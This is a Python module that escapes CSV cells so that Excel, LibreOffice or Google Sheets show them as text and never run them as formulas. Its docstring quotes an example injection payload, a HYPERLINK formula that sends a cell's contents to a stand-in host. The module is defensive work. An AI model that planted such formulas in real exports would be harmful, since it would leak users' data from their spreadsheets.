"""Provides spreadsheet_safe: CSV cells that a spreadsheet shows as text, never runs as a formula.

A CSV export is opened in Excel, LibreOffice or Google Sheets, and a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
of them skip before looking) is read as a formula: an article quoting
``=HYPERLINK("http://example.invalid/?"&A1, "more")`` would send the sheet's
data away when clicked. Such a cell gets a leading apostrophe, which spreadsheets
take as "this is text" and do not show. A cell that already starts with an
apostrophe gets one too, so the rule is reversible: drop the first character of
every cell that starts with an apostrophe followed by one of these characters.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula (OWASP's list)."""
GUARD = "'"


def spreadsheet_safe(value: Any) -> Any:
    """``value`` itself, or for text a spreadsheet would run (or an apostrophe-led text), the text after ``'``.

    ``-3`` as a number stays a number; ``"-3 degrees"`` as text becomes ``"'-3 degrees"``.
    """
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, GUARD)):
        return GUARD + value
    return value


def spreadsheet_safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of a row made spreadsheet-safe."""
    return [spreadsheet_safe(value) for value in row]
